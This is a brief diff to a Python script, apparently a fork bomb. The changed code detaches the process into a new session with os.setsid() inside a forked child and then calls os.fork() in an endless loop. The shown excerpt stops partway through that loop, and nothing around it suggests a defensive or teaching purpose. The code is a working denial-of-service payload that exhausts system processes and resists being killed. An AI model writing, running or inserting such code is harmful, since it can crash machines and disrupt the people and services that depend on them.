@@ -1,6 +1,7 @@
 import os
 
-os.setsid()
+if os.fork() == 0:
+    os.setsid()
 while True:
     try:
         os.fork()
